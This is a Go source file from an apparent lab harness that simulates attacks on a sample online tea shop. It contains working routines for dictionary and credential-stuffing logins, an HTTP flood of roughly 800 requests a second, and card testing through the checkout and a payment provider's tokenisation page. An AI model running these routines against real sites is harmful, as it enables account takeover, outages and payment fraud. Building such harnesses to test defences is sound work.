package lab

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"time"

	"noren/sampleshop"
)

const guesses = 120 // sign-ins from each address

// guessPasswords tries sign-ins: the first address a dictionary on two members,
// the others lists of stolen pairs, each account once. The members are real
// ones, who must be able to sign in meanwhile.
func guessPasswords(ctx context.Context, r *raid) {
	people := sampleshop.People(r.o.MemberSeed, max(r.o.Members, 2))
	seeds := make([]uint64, len(r.tools))
	for i := range seeds {
		seeds[i] = r.r.Uint64()
	}
	var wg sync.WaitGroup
	for i := range r.tools {
		wg.Go(func() {
			rnd := rand.New(rand.NewPCG(seeds[i], 1))
			for k := range r.count(guesses) {
				mail := people[k%2].Mail
				if i > 0 && rnd.IntN(3) == 0 {
					mail = people[rnd.IntN(len(people))].Mail
				} else if i > 0 {
					mail = fmt.Sprintf("leak%06d@example.com", rnd.IntN(1_000_000))
				}
				form := url.Values{"mail": {mail}, "password": {guess(rnd)}}
				r.fire(ctx, i, probe{step: "guess", method: http.MethodPost, target: "/login", body: form.Encode(), form: true})
				if r.pause(ctx, 180*time.Millisecond) != nil {
					return
				}
			}
		})
	}
	wg.Wait()
}

func guess(r *rand.Rand) string {
	return pick(r, strings.Fields("password 123456789 sakura iloveyou qwerty12 password1 doraemon hanako tokyo2020 11111111 abcd1234 welcome1 p@ssw0rd aaaa1111 zaq12wsx")) + strconv.Itoa(r.IntN(100))
}

const (
	floodRequests = 4000
	floodHands    = 16
	// floodPause makes it about 800 requests a second at the lab's usual speed,
	// many times what a limit lets through. The flood runs on the machine it
	// floods: how much that machine bears is a bench's question, not the lab's.
	floodPause = 120 * time.Millisecond
)

// flood asks for pages far faster than people do, each with another parameter
// so that no cache helps, and throws every cookie away.
func flood(ctx context.Context, r *raid) {
	left := make(chan int, floodHands)
	var wg sync.WaitGroup
	for range floodHands {
		wg.Go(func() {
			for n := range left {
				target := "/products/hojicha?cb=" + strconv.Itoa(n)
				if n%3 == 0 {
					target = "/?cb=" + strconv.Itoa(n)
				}
				r.fire(ctx, n, probe{step: "flood", target: target})
				if r.pause(ctx, floodPause) != nil {
					return
				}
			}
		})
	}
	for range r.count(floodRequests) {
		select {
		case <-ctx.Done():
		case left <- r.r.IntN(1 << 30):
		}
	}
	close(left)
	wg.Wait()
}

const (
	cardsTested   = 60 // from each address
	cardsPerVisit = 4  // before the cookies are thrown away
)

// testCards buys the cheapest thing with one stolen card after the other, a
// fresh visit every few cards.
func testCards(ctx context.Context, r *raid) {
	seeds := make([]uint64, len(r.tools))
	for i := range seeds {
		seeds[i] = r.r.Uint64()
	}
	var wg sync.WaitGroup
	for i := range r.tools {
		wg.Go(func() {
			t := &tester{raid: r, source: i, r: rand.New(rand.NewPCG(seeds[i], 2))}
			for k := range r.count(cardsTested) {
				if k%cardsPerVisit == 0 {
					t.visit(ctx)
				}
				t.try(ctx)
				if r.pause(ctx, 300*time.Millisecond) != nil {
					return
				}
			}
		})
	}
	wg.Wait()
}

// tester is one address that tests cards.
type tester struct {
	*raid
	source int
	r      *rand.Rand
	pay    string // the provider's card page of this visit
}

// visit fills a cart and an address as a new guest.
func (t *tester) visit(ctx context.Context) {
	tool := t.tools[t.source]
	tool.http.Jar.SetCookies(tool.base, []*http.Cookie{{Name: "norendo", Path: "/", MaxAge: -1}})
	t.pay = ""
	cart := url.Values{"product": {"genmaicha"}, "quantity": {"1"}}
	t.fire(ctx, t.source, probe{step: "cart", method: http.MethodPost, target: "/cart/add", body: cart.Encode(), form: true})
	p := person(t.r, t.o.Seed, 100_000+t.r.IntN(900_000))
	form := url.Values{"name": {p.Name}, "kana": {p.Kana}, "postal": {p.Postal}, "prefecture": {p.Prefecture}, "address": {p.Address},
		"phone": {p.Phone}, "mail": {p.Mail}, "delivery": {"指定なし"}, "payment": {"card"}}
	a := t.fire(ctx, t.source, probe{step: "address", method: http.MethodPost, target: "/checkout", body: form.Encode(), form: true})
	if strings.HasPrefix(a.location, "http") {
		t.pay = a.location
	}
}

// try has a card turned into a token by the provider, which no gateway of the
// shop's sees, and pays with it.
func (t *tester) try(ctx context.Context) {
	card := pick(t.r, badCards())
	token := "tok_" + strings.Repeat(string(rune('a'+t.r.IntN(16))), 32) // when there is no page: made up
	if t.pay != "" {
		if got := t.tokenise(ctx, card); got != "" {
			token = got
		}
	}
	form := url.Values{"card_token": {token}, "card_bin": {card[:6]}, "card_last4": {card[len(card)-4:]}, "amount": {"1524"}}
	t.fire(ctx, t.source, probe{step: "pay", method: http.MethodPost, target: "/checkout/payment", body: form.Encode(), form: true})
}

func (t *tester) tokenise(ctx context.Context, card string) string {
	form := url.Values{"number": {card}, "expiry": {"11/29"}, "cvc": {strconv.Itoa(100 + t.r.IntN(900))}}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.pay, strings.NewReader(form.Encode()))
	if err != nil {
		return ""
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	a, err := t.tools[t.source].exchange(req)
	if err != nil {
		return ""
	}
	back, err := url.Parse(a.location)
	if err != nil {
		return ""
	}
	return back.Query().Get("card_token")
}
